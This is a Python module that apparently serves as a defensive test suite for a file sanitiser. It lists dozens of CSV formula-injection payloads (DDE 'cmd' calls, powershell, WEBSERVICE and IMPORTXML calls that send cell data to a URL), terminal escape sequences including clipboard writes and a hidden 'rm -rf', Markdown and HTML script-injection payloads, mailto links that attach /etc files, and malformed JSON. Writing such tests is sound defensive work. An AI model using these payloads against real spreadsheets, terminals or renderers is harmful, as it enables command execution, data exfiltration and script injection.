"""Tables that compute, texts that steer a terminal or hide, JSON that readers disagree about."""

import csv
import io
import json
import unicodedata
from collections.abc import Callable, Iterator

from .common import MARKER, URL, VISIBLE, Attack

# -- tables: the words of a formula may stay as words, it must not be one ------------------------------------------------

_FORMULAS = {
    "command": f"=cmd|'/C {MARKER}'!A0",
    "plus": f"+cmd|'/C {MARKER}'!A0",
    "minus": f"-2+3+cmd|'/C {MARKER}'!A0",
    "at": f"@SUM(cmd|'/C {MARKER}'!A0)",
    "tab first": f"\t=cmd|'/C {MARKER}'!A0",
    "return first": f"\r=cmd|'/C {MARKER}'!A0",
    "line feed first": f"\n=cmd|'/C {MARKER}'!A0",
    "blank first": f" =cmd|'/C {MARKER}'!A0",
    "no-break blank first": f"\u00a0=cmd|'/C {MARKER}'!A0",
    "wide blank first": f"\u3000=cmd|'/C {MARKER}'!A0",
    "zero-width blank first": f"\u200b=cmd|'/C {MARKER}'!A0",
    "byte order mark first": f"\ufeff=cmd|'/C {MARKER}'!A0",
    "word joiner first": f"\u2060+cmd|'/C {MARKER}'!A0",
    "wide equals": f"＝cmd|'/C {MARKER}'!A0",
    "wide plus": f"＋cmd|'/C {MARKER}'!A0",
    "wide minus": f"－cmd|'/C {MARKER}'!A0",
    "wide at": f"＠SUM(cmd|'/C {MARKER}'!A0)",
    "small equals": f"﹦cmd|'/C {MARKER}'!A0",
    "small plus": f"﹢cmd|'/C {MARKER}'!A0",
    "small at": f"﹫SUM(cmd|'/C {MARKER}'!A0)",
    "dde function": f'=DDE("cmd";"/C {MARKER}";"a")',
    "powershell": f"=MSEXCEL|'\\..\\..\\powershell {MARKER}'!''",
    "hyperlink": f'=HYPERLINK("{URL}?x="&A1;"click")',
    "web service": f'=WEBSERVICE("{URL}")',
    "import": f'=IMPORTXML(CONCAT("{URL}?",A1),"//a")',
    "picture": f'=IMAGE("{URL}")',
    "external cell": f"='\\\\127.0.0.1\\[{MARKER}.xlsx]A'!A1",
    "quoted formula": f"=\"a\"&cmd|'/C {MARKER}'!A0",
    "number then formula": f"-1+1|'{MARKER}'!A0",
    "semicolon inside": f"words;=cmd|'/C {MARKER}'!A0",
    "tab inside": f"words\t=cmd|'/C {MARKER}'!A0",
    "line inside": f"words\n=cmd|'/C {MARKER}'!A0",
    "comma inside": f"words,@SUM({MARKER})",
    "control character first": f"\x01=cmd|'/C {MARKER}'!A0",
    "direction mark first": f"\u202e=cmd|'/C {MARKER}'!A0",
    "annotation anchor first": f"\ufff9=cmd|'/C {MARKER}'!A0",
    "no character first": f"\ufdd0=cmd|'/C {MARKER}'!A0",
    "invisible note first": f"\U0001d173=cmd|'/C {MARKER}'!A0",
    "format of shorthand first": f"\U0001bca0=cmd|'/C {MARKER}'!A0",
    "behind a bar": f"words|=cmd|'/C {MARKER}'!A0",
    "number before a bar": f"-1|'{MARKER}'!A0",
    "number before a bar in a quote": f"\"+1|'{MARKER}'!A0\"",
    "two equals in one sign": f"⩵cmd|'/C {MARKER}'!A0",
    "raised plus": f"⁺cmd|'/C {MARKER}'!A0",
    "lowered equals": f"₌cmd|'/C {MARKER}'!A0",
}


def runs_nothing(output: bytes) -> bool:
    """No cell, under any delimiter, begins as a formula once blanks are gone; the visible words are there."""
    text = output.decode("utf-8-sig")
    if text.lower().lstrip('"').startswith("sep="):
        return False
    for delimiter in ",;|\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                bare = "".join(c for c in cell if unicodedata.category(c)[0] not in "ZC")
                start = unicodedata.normalize("NFKC", bare)[:1]
                if start and start in "=+-@" and bare.strip("-0123456789;,"):
                    return False
    return VISIBLE in text


def table(cell: str, *, delimiter: str = ",") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter).writerows([["名前", "値"], [VISIBLE, cell], ["-12", "3"]])
    return out.getvalue().encode()


_TABLES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "semicolon table": ("csv", lambda: table(f"=cmd|'{MARKER}'!A0", delimiter=";")),
    "tab table": ("tsv", lambda: table(f"=cmd|'{MARKER}'!A0", delimiter="\t")),
    "separator line": ("csv", lambda: f"sep=|\r\n{VISIBLE}|=cmd('{MARKER}')\r\n".encode()),
    "quoted separator line": ("csv", lambda: f'"sep=|"\r\n{VISIBLE}|=cmd(\'{MARKER}\')\r\n'.encode()),
    "separator line in capitals": ("csv", lambda: f"SEP=^\r\n{VISIBLE}^@SUM('{MARKER}')\r\n".encode()),
    "symbolic link file": ("csv", lambda: f"ID;P{VISIBLE}\r\nO;E\r\nC;X1;Y1;EEXEC(\"{MARKER}\")\r\nE\r\n".encode()),
    "utf-16": ("csv", lambda: f"{VISIBLE},=cmd|'{MARKER}'!A0\r\n".encode("utf-16")),
    "utf-16 big end": ("csv", lambda: b"\xfe\xff" + f"{VISIBLE},=cmd|'{MARKER}'!A0\r\n".encode("utf-16-be")),
    "code page 932": ("csv", lambda: f"{VISIBLE},＝cmd|'{MARKER}'!A0\r\n".encode("cp932")),
    "utf-7": ("csv", lambda: f"{VISIBLE},+AD0-cmd|'{MARKER}'!A0\r\n".encode()),
    "open quote": ("csv", lambda: f'{VISIBLE},"=cmd|\'{MARKER}\'!A0\r\n'.encode()),
    "quote in the middle": ("csv", lambda: f'{VISIBLE},a"b,"=cmd|\'{MARKER}\'!A0"\r\n'.encode()),
    "only returns": ("csv", lambda: f"{VISIBLE},1\r=cmd|'{MARKER}'!A0,2\r".encode()),
    "next line character": ("csv", lambda: f"{VISIBLE},1\u0085=cmd|'{MARKER}'!A0\r\n".encode()),
    "line separator": ("csv", lambda: f"{VISIBLE},1\u2028=cmd|'{MARKER}'!A0\r\n".encode()),
}  # fmt: skip

# -- texts ------------------------------------------------------------------------------------------------------------

_ESC = "\x1b"
_HIDDEN = "".join(chr(0xE0000 + ord(c)) for c in "MARKER")
_TEXTS = {
    "colour": (f"{_ESC}[31m", _ESC),
    "clear the screen": (f"{_ESC}[2J{_ESC}[H", _ESC),
    "window title": (f"{_ESC}]0;{MARKER}\x07", MARKER),
    "clipboard": (f"{_ESC}]52;c;{MARKER}{_ESC}\\", MARKER),
    "terminal link": (f"{_ESC}]8;;{URL}{_ESC}\\click{_ESC}]8;;{_ESC}\\", MARKER),
    "device control": (f"{_ESC}P$q{MARKER}{_ESC}\\", _ESC),
    "eight-bit control": (f"\x9b31m\x9d0;{MARKER}\x9c", "\x9b"),
    "answer back": ("\x05", "\x05"),
    "backspaces": ("rm -rf\x08\x08\x08", "\x08"),
    "zero bytes": ("a\0b", "\0"),
    "right to left": ("\u202egpj.exe", "\u202e"),
    "isolates": ("\u2066a\u2069", "\u2066"),
    "arabic mark": ("\u061c", "\u061c"),
    "tag characters": (_HIDDEN, _HIDDEN),
    "line separators": ("a\u2028b\u2029", "\u2028"),
    "escape in vertical tab": ("a\x0bb\x0c", "\x0b"),
    "shift out": ("\x0e\x0f", "\x0e"),
    "delete": ("a\x7f", "\x7f"),
}

_MARKDOWN = {
    "script": f"<script>fetch('{URL}')</script>",
    "handler": f"<img src=x onerror=\"fetch('{URL}')\">",
    "frame": f"text <iframe src='{URL}'></iframe> text",
    "comment": f"<!-- {MARKER} -->",
    "script link": f"[x](javascript:alert('{MARKER}'))",
    "script link in mixed case": f"[x](JaVaScript:{MARKER})",
    "script link with an entity": f"[x](javascript&colon;{MARKER})",
    "script link with an escape": f"[x](java\\script:{MARKER})",
    "script link on the next line": f"[x](\n  javascript:{MARKER})",
    "script link in brackets": f"[x](<javascript:{MARKER}>)",
    "script reference": f"[x][a]\n\n[a]: javascript:{MARKER}",
    "data link": f"[x](data:text/html,{MARKER})",
    "file link": f"[x](file:///{MARKER})",
    "network link": f"[x](\\\\127.0.0.1\\{MARKER})",
    "link without a scheme": f"[x](//127.0.0.1/{MARKER})",
    "automatic link": f"<javascript:{MARKER}>",
    "program link": f"[x](ms-msdt:/id{MARKER})",
    "tracking picture": f"![x]({URL}.png)",
    "picture by reference": f"![x][a]\n\n[a]: {URL}.png",
    "tag behind a false fence": f"``` a`b\n<script>{MARKER}</script>\n```",
    "tag behind a closed fence": f"```\ncode\n```\n<script>{MARKER}</script>",
    "tag in a quoted fence": f"> ```\n<script>{MARKER}</script>",
    "tag after an indented fence": f"    ```\n<script>{MARKER}</script>",
    "tag over two lines": f"<img\nsrc='{URL}'>",
    "tag behind a list whose fence ends with it": f"- a\n\n  ```\n<script>{MARKER}</script>",
    "tag behind a numbered list whose fence ends with it": f"1. a\n   ~~~\n<script>{MARKER}</script>",
    "tag behind a fence closed too far in": f"```\n    ```\n```\n<script>{MARKER}</script>",
    "tag behind a fence closed behind a tab": f"```\n\t```\n```\n<script>{MARKER}</script>",
    "script link over two lines of a quotation": f"> [x](\n> javascript:{MARKER})",
    "script reference over two lines of a quotation": f"> [x]:\n> javascript:{MARKER}\n\n[x]",
    "script link within what is no link": f"[l](https://y[m](javascript:{MARKER})",
    "script link with brackets": f"[x](javascript:a({MARKER}(b)))",
    "script link with escaped brackets": f"[x](javascript:a\\){MARKER})",
    "fence that is page": f"```{{=html}}\n{MARKER}\n```",
    "fence that is run": f"~~~ {{r}}\nsystem('{MARKER}')\n~~~",
    "letter that attaches": f"[x](mailto:a@example.jp?attach=/etc/{MARKER})",
    "automatic letter that attaches": f"<mailto:a@example.jp?subject=x&amp;attach=/etc/{MARKER}>",
    "script link by a reference in numbers": f"[x]\n\n[x]: &#x6A;avascript:{MARKER}",
    "script link by entities of blanks": f"[x](java&NewLine;script:{MARKER}) [y](java&Tab;script:{MARKER})",
    "script link in a picture": f"[![](x)](javascript:{MARKER})",
    "embedded note": f"![[{MARKER}]]",
    "instruction for a page": f"<?php {MARKER} ?>",
    "data of a page": f"<![CDATA[ <script>{MARKER}</script> ]]>",
    "comment as a reference": f"[//]: # (<!-- {MARKER} -->)",
    "directive that is page": f"```{{raw}} html\n{MARKER}\n```",
    "handler in braces": f"[x](https://example.jp/){{: onclick=\"fetch('{URL}')\"}}",
}

# Code that one viewer sees and another does not: there its tags act. What is written is code for all of them, or for none.
_SCRIPT = f"<script>{MARKER}</script>"
_WORDS = f"&lt;script>{MARKER}&lt;/script>"
_FENCES = {
    "never closed": (f"```\n{_SCRIPT}", f"```\n{_SCRIPT}\n```\n"),
    "with words behind": (f"```a b\n{_SCRIPT}\n```\n", f"```a\n{_SCRIPT}\n```\n"),
    "with signs behind": (f"~~~ c`d\n{_SCRIPT}\n~~~\n", f"~~~c\n{_SCRIPT}\n~~~\n"),
    "one blank in": (f" ```\n {_SCRIPT}\n ```\n", f"```\n{_SCRIPT}\n```\n"),
    "closed by a longer one": (f"```\n{_SCRIPT}\n`````\n", f"```\n{_SCRIPT}\n```\n"),
    "closed further in": (f"```\n{_SCRIPT}\n   ```\n", f"```\n{_SCRIPT}\n```\n"),
    "closed with a wide blank": (f"```\nx\n```\u00a0\n{_SCRIPT}\n", f"```\nx\n```\n{_WORDS}\n"),
    "closed with an ideographic blank": (f"```\n```\u3000\n```\n{_SCRIPT}", f"```\n```\n```\n{_SCRIPT}\n```\n"),
    "as an address": (f"[a]:\n```\n{_SCRIPT}\n```\n", f"[a]:\n\n```\n{_SCRIPT}\n```\n"),
    "two blanks in, closed at the margin": (f"  ```\nx\n```\n{_SCRIPT}\n", f"```\nx\n```\n{_WORDS}\n"),
    "three blanks in, behind a list": (
        f"- a\n\nb\n\n   ~~~\nx\n~~~\n{_SCRIPT}\n~~~\n", f"- a\n\nb\n\n~~~\nx\n~~~\n{_WORDS}\n~~~\n~~~\n",
    ),
    "in a list that ends": (
        f"- a\n  ```\n  x\nb\n```\n{_SCRIPT}\n```\n", f"- a\n  ```\n  x\n  ```\nb\n```\n{_SCRIPT}\n```\n",
    ),
    "in a list, closed at the margin": (
        f"- a\n  ```\n  x\n```\n{_SCRIPT}\n", f"- a\n  ```\n  x\n  ```\n{_WORDS}\n",
    ),
    "in front matter": (f"---\na: |\n  ```\n---\n{_SCRIPT}\n", f"---\na: |\n```\n```\n---\n{_WORDS}\n"),
    "in front matter of TOML": (f"+++\n```\n+++\n{_SCRIPT}\n", f"+++\n```\n```\n+++\n{_WORDS}\n"),
    "four blanks before its end": (f"  ```\n    ```\n{_SCRIPT}\n", f"```\n    ```\n{_SCRIPT}\n```\n"),
}  # fmt: skip
_BRACES = {
    "attributes behind a quoted brace": f"[x](https://a/){{: title=\"}}\" onclick='{MARKER}' }}",
    "attributes in quoted braces": f"[x](https://a/){{: title=\"{{\" onclick='{MARKER}' }}",
    "attributes on two lines": f"[x](https://a/){{.a\nonclick='{MARKER}' }}",
    "attributes with a background": f"|a|\n|-|\n{{: background='{URL}' }}",
    "front matter that runs behind a blank": f"--- js\n{{ a: require('{MARKER}') }}\n---",
    "front matter that runs behind a wide blank": f"---\u3000javascript\n{{ a: require('{MARKER}') }}\n---",
    "front matter that runs": f"---js\n{{ a: require('{MARKER}') }}\n---",
    "more marks before a picture": f"!!![x]({URL})",
    "share with two kinds of slashes": f"[x](/\\127.0.0.1/{MARKER})",
    "share with slashes by their names": f"[x](&sol;&bsol;127.0.0.1/{MARKER})",
    "web with its slashes turned": f"[x](http:\\\\127.0.0.1\\{MARKER})",
    "mail with a further field": f"[x](mailto:a@example.jp?subject=a%0d%0aBcc:{MARKER})",
}

_DOCUMENTS = {
    "json with two keys": (f'{{"a": "{MARKER}", "a": "{VISIBLE}"}}', False),
    "json with controls": (f'{{"a": "{VISIBLE}\u202e"}}', False),
    "json and more": (f'{{"a": "{VISIBLE}"}} {MARKER}', True),
    "json with a prefix": (f')]}}\',\n{{"a": "{MARKER}"}}', True),
    "json with a comment": (f'{{"a": 1 /* {MARKER} */}}', True),
    "json that calls": (f'callback({{"a": "{MARKER}"}})', True),
    "json too deep": ("[" * 100_000 + "]" * 100_000, True),
    "json with a direction in an escape": (f'{{"a": "{VISIBLE}\\u202e"}}', False),
    "json with half a character": (f'{{"a": "{VISIBLE}\\ud800"}}', False),
    "json with commands in escapes": (f'{{"a": "{VISIBLE}\\u001b]0;\\u0007"}}', False),
    "json with an endless number": (f'{{"a": "{VISIBLE}", "b": {"9" * 6_000}}}', True),
    "json with escapes": (json.dumps({"a": VISIBLE}), False),
}


def _shows_json(output: bytes) -> bool:
    return VISIBLE in str(json.loads(output))


def _attacks() -> Iterator[Attack]:
    for name, formula in _FORMULAS.items():
        yield Attack(
            f"csv {name}", lambda formula=formula: table(formula), "csv", gone=(), shows=runs_nothing
        )
    for name, (extension, build) in _TABLES.items():
        yield Attack(f"csv {name}", build, extension, gone=(), shows=runs_nothing)
    for name, (inside, gone) in _TEXTS.items():
        yield Attack(
            f"txt {name}", lambda inside=inside: f"{VISIBLE}\n{inside}\nend\n".encode(), "txt", gone=(gone,)
        )
    for name, inside in _MARKDOWN.items():
        yield Attack(
            f"md {name}",
            lambda inside=inside: f"# {VISIBLE}\n\n{inside}\n".encode(),
            "md",
            gone=(
                "<script",
                "<img",
                "<iframe",
                "<!--",
                "![",
                "](java",
                "](JaVa",
                "<java",
                ": java",
                "](data",
                "](file",
                "](\\",
                "](//",
                "](ms-",
                "> java",
                "{=",
                "{r}",
                "{:",
                "](mailto",
                "<mailto",
                "{raw}",
                "<?",
                "<![",
            ),
        )
    for name, (source, written) in _FENCES.items():
        yield Attack(
            f"md fence {name}",
            source.encode,
            "md",
            gone=(),
            shows=lambda output, written=written: output.decode() == written,
        )
    for name, inside in _BRACES.items():
        yield Attack(
            f"md {name}",
            lambda inside=inside: f"{inside}\n\n{VISIBLE}\n".encode(),
            "md",
            gone=("{:", "{.", "---js", "--- js", "javascript", "![", "](/", "](&", "](http:\\", "mailto"),
        )
    yield Attack("txt in utf-16", lambda: f"{VISIBLE}{_ESC}]0;{MARKER}\x07".encode("utf-16"), "txt")
    yield Attack(
        "txt in iso-2022-jp",
        lambda: (VISIBLE + "\u3000").encode("iso2022_jp") + b"\x1b]0;" + MARKER.encode() + b"\x07",
        "txt",
    )
    for name, (text, refused) in _DOCUMENTS.items():
        yield Attack(
            name,
            lambda text=text: text.encode(),
            "json",
            gone=(MARKER, "\u202e", "\\u"),
            refused=refused,
            shows=_shows_json,
        )


ATTACKS = tuple(_attacks())
